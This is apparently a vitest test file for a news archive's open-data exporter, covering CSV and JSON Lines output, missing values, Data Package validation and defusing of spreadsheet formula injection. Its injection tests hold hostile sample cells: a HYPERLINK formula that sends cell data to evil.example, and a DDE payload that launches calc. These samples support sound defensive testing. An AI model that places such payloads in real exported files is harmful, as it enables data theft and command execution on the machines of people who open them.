import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Ajv from 'ajv';
import addFormats from 'ajv-formats';
import { parse as parseCsv } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { en } from '../../../src/i18n/en.ts';
import {
  csvText,
  DATA_FIELDS,
  dataFields,
  dataFileNames,
  dataPackage,
  type DataRow,
  FORMULA_TRIGGERS,
  toCsv,
  toJsonLines,
} from '../../../src/outputs/open-data.ts';

const row = (over: Partial<DataRow> = {}): DataRow => ({
  url: 'https://news.example/2023/03/15/talks/',
  headline: 'Ministers & envoys say “no deal”, again; "quoted"\nand a new line',
  date: '2023-03-15T02:30:00Z',
  authors: ['José Martínez', 'Anna Kowalska'],
  source: 'Example Wire',
  section: null,
  topics: ['Trade'],
  people: [],
  places: ['Zürich'],
  organisations: [],
  language: 'en-GB',
  word_count: 120,
  ...over,
});

describe('CSV and JSON Lines', () => {
  test('CSV round-trips through a CSV parser: quotes, commas, semicolons and new lines kept; lists joined with "; "', () => {
    const records = parseCsv(toCsv([row(), row({ headline: 'Plain', authors: [] })], DATA_FIELDS), { columns: true }) as Record<
      string,
      string
    >[];
    expect(Object.keys(records[0]!)).toEqual(DATA_FIELDS.map((field) => field.name));
    expect(records[0]).toMatchObject({ headline: row().headline, authors: 'José Martínez; Anna Kowalska', word_count: '120', section: '' });
    expect(records[1]).toMatchObject({ headline: 'Plain', authors: '' });
  });

  test('the text column appears only when full text is on', () => {
    expect(dataFields(false).map((field) => field.name)).not.toContain('text');
    const csv = toCsv([row({ text: 'Body, with *Markdown*.' })], dataFields(true));
    expect((parseCsv(csv, { columns: true }) as Record<string, string>[])[0]?.text).toBe('Body, with *Markdown*.');
  });

  test('JSON Lines has one object per line with lists as arrays', () => {
    const lines = toJsonLines([row(), row()]).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(JSON.parse(lines[0]!)).toEqual(row());
  });
});

/** Parses a CSV written by toCsv into records by column name. */
const readCsv = (csv: string) => parseCsv(csv, { columns: true }) as Record<string, string>[];

describe('csvText: formula injection (OWASP CSV Injection)', () => {
  test.each([
    ['a hyperlink formula', '=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['an at-sign function', '@SUM(1+1)', "'@SUM(1+1)"],
    ['a DDE command after a plus', "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['a minus', '-2+3', "'-2+3"],
    ['a leading tab', '\t=1+1', "'\t=1+1"],
    ['a leading carriage return', '\r=1+1', "'\r=1+1"],
  ])('prefixes an apostrophe to text that begins like %s', (_kind, text, written) => {
    expect(csvText(text)).toBe(written);
  });

  test.each([
    ['ordinary text', 'Trade talks stall'],
    ['a trigger that is not the first character', 'Profits up 5% = record'],
    ['a leading space', ' =1+1'],
    ['an apostrophe already', "'Tis the season"],
    ['an empty string', ''],
    ['a full-width equals sign, which spreadsheets do not read as a formula', '＝1+1'],
  ])('leaves %s as it is', (_kind, text) => {
    expect(csvText(text)).toBe(text);
  });

  test('the triggers are the six OWASP names', () => {
    expect([...FORMULA_TRIGGERS].sort()).toEqual(['\t', '\r', '+', '-', '=', '@'].sort());
  });
});

describe('toCsv and toJsonLines with formula-like text', () => {
  const hostile = row({
    headline: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    authors: ['@SUM(1+1)', 'Ann Lee'],
    topics: ['Trade', "+cmd|' /C calc'!A0"],
    source: '-1+1',
    section: null,
    language: 'en',
  });

  test.each([
    ['headline', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'],
    ['authors', "'@SUM(1+1); Ann Lee"],
    ['topics', "Trade; '+cmd|' /C calc'!A0"],
    ['source', "'-1+1"],
    ['section', ''],
    ['language', 'en'],
    ['word_count', '120'],
  ])('the CSV cell of %s reads back as %j', (column, cell) => {
    expect(readCsv(toCsv([hostile], DATA_FIELDS))[0]?.[column]).toBe(cell);
  });

  test('no CSV cell, and no value of a list cell, begins with a trigger', () => {
    const cells = Object.values(readCsv(toCsv([hostile], dataFields(true)))[0]!).flatMap((cell) => cell.split('; '));
    for (const cell of cells)
      expect(
        FORMULA_TRIGGERS.some((trigger) => cell.startsWith(trigger)),
        cell,
      ).toBe(false);
  });

  test('the full text column is defused too: a Markdown body that opens with a list item', () => {
    expect(readCsv(toCsv([row({ text: '- first point\n- second' })], dataFields(true)))[0]?.text).toBe("'- first point\n- second");
  });

  test('a cell holding ";" is quoted, so a spreadsheet splitting on ";" keeps it one cell', () => {
    const csv = toCsv([row({ headline: 'Talks; =1+1', topics: ['A', 'B'], section: 'World' })], DATA_FIELDS);
    expect(csv).toContain('"Talks; =1+1"');
    expect(csv).toContain('"A; B"');
    expect(csv).toContain(',World,');
  });

  test('JSON Lines keeps every text exactly as written', () => {
    expect(JSON.parse(toJsonLines([hostile]).trim())).toEqual(hostile);
  });
});

describe('missing values', () => {
  test.each([
    ['no section', { section: null }, { section: null }, { section: '' }],
    ['no source and no section', { source: null, section: null }, { source: null, section: null }, { source: '', section: '' }],
    ['both present', { source: 'Wire', section: 'World' }, { source: 'Wire', section: 'World' }, { source: 'Wire', section: 'World' }],
    ['an empty list', { authors: [] }, { authors: [] }, { authors: '' }],
  ])('%s: null in JSON Lines, an empty cell in CSV', (_case, over, json, csv) => {
    const data = row(over as Partial<DataRow>);
    expect(JSON.parse(toJsonLines([data]).trim())).toMatchObject(json);
    expect(toJsonLines([data])).not.toContain('""');
    expect(readCsv(toCsv([data], DATA_FIELDS))[0]).toMatchObject(csv);
  });
});

describe('dataPackage', () => {
  // The Data Package v1 profile, vendored from https://specs.frictionlessdata.io/schemas/data-package.json
  // (frictionlessdata/datapackage, public/profiles/1.0/datapackage.json at 6a201af).
  const schema = JSON.parse(readFileSync(join(import.meta.dirname, '../../fixtures/data-package.schema.json'), 'utf8'));
  const ajv = new Ajv({ strict: false, allErrors: true });
  addFormats(ajv);
  const validate = ajv.compile(schema);
  const options = {
    name: 'the-news-archive',
    title: 'The News Archive — Open data',
    description: 'Metadata.',
    homepage: 'https://news.example/data/',
    license: { title: 'Same terms as The News Archive', path: 'https://news.example/data/' },
    years: ['2022', '2023'],
    fullText: false,
    fieldDescriptions: en.research.data.fields,
    csvSeparatorNote: 'In CSV, values are separated by "; ".',
    missingNote: en.research.data.missingNote,
    csvFormulaNote: en.research.data.formulaNote,
    created: '2023-03-15T02:30:00.000Z',
  };

  test.each([false, true])('is a valid Data Package (full text %s) listing a CSV and a JSON Lines file per year', (fullText) => {
    const descriptor = dataPackage({ ...options, fullText });
    expect(validate(descriptor), JSON.stringify(validate.errors)).toBe(true);
    const resources = descriptor.resources as { path: string; schema?: { fields: { name: string }[] } }[];
    expect(resources.map((resource) => resource.path)).toEqual([
      dataFileNames('2022').csv,
      dataFileNames('2022').jsonl,
      dataFileNames('2023').csv,
      dataFileNames('2023').jsonl,
    ]);
    expect(resources[0]?.schema?.fields.map((field) => field.name)).toEqual(dataFields(fullText).map((field) => field.name));
  });

  test('the validator does catch a broken descriptor', () => {
    expect(validate({ ...dataPackage(options), name: 'Not Valid!' })).toBe(false);
    expect(validate({ ...dataPackage(options), resources: [] })).toBe(false);
  });

  test.each(dataFields(true).map((field) => field.name))(
    'a dictionary without a description for %s fails, naming the column and the fix',
    (name) => {
      const { [name]: _missing, ...rest } = { ...en.research.data.fields } as Record<string, string>;
      expect(() => dataPackage({ ...options, fullText: true, fieldDescriptions: rest })).toThrow(
        `no description for the column "${name}"; add it to research.data.fields`,
      );
    },
  );

  test('list columns carry the CSV separator sentence, other columns only their description', () => {
    const fields =
      (dataPackage(options).resources as { schema?: { fields: { name: string; description: string }[] } }[])[0]?.schema?.fields ?? [];
    expect(fields.find((field) => field.name === 'topics')?.description).toBe(
      `${en.research.data.fields.topics} ${options.csvSeparatorNote}`,
    );
    expect(fields.find((field) => field.name === 'headline')?.description).toBe(en.research.data.fields.headline);
  });

  type Field = { name: string; type: string; description: string; constraints?: { required: boolean } };
  type Resource = { path: string; description?: string; schema: { fields: Field[]; missingValues: string[] } };
  const resources = () => dataPackage({ ...options, fullText: true }).resources as Resource[];
  const csvField = (name: string) => resources()[0]?.schema.fields.find((field) => field.name === name);
  const jsonlField = (name: string) => resources()[1]?.schema.fields.find((field) => field.name === name);

  test('CSV reads an empty cell as missing; JSON Lines reads only null as missing', () => {
    expect(resources()[0]?.schema.missingValues).toEqual(['']);
    expect(resources()[1]?.schema.missingValues).toEqual([]);
  });

  test.each([
    // column, required in both schemas, described as possibly missing, JSON Lines type
    ['url', true, false, 'string'],
    ['headline', true, false, 'string'],
    ['date', true, false, 'datetime'],
    ['word_count', true, false, 'integer'],
    ['source', false, true, 'string'],
    ['section', false, true, 'string'],
    ['authors', false, false, 'array'],
    ['text', false, false, 'string'],
    ['source_url', false, true, 'string'],
    ['storylines', false, false, 'array'],
    ['modified', false, true, 'datetime'],
    ['corrections', true, false, 'integer'],
  ])('%s: required %s, missing-value note %s, JSON Lines type %s', (name, required, optional, jsonlType) => {
    for (const field of [csvField(name), jsonlField(name)]) {
      expect(field?.constraints?.required ?? false).toBe(required);
      expect(field?.description.endsWith(options.missingNote)).toBe(optional);
    }
    expect(jsonlField(name)?.type).toBe(jsonlType);
  });

  test('the page and the schema agree: the optional columns are exactly those the descriptor lets be missing without a list', () => {
    const optional = dataFields(true)
      .filter((field) => field.optional)
      .map((field) => field.name);
    expect(optional).toEqual(['source', 'section', 'source_url', 'modified']);
    const unrequired = resources()[1]!.schema.fields.filter((field) => !field.constraints?.required && field.type !== 'array');
    expect(unrequired.map((field) => field.name)).toEqual([...optional, 'text']);
  });

  test('each CSV resource says why some text starts with an apostrophe; JSON Lines resources do not', () => {
    expect(resources().map((resource) => resource.description)).toEqual([
      options.csvFormulaNote,
      undefined,
      options.csvFormulaNote,
      undefined,
    ]);
  });
});
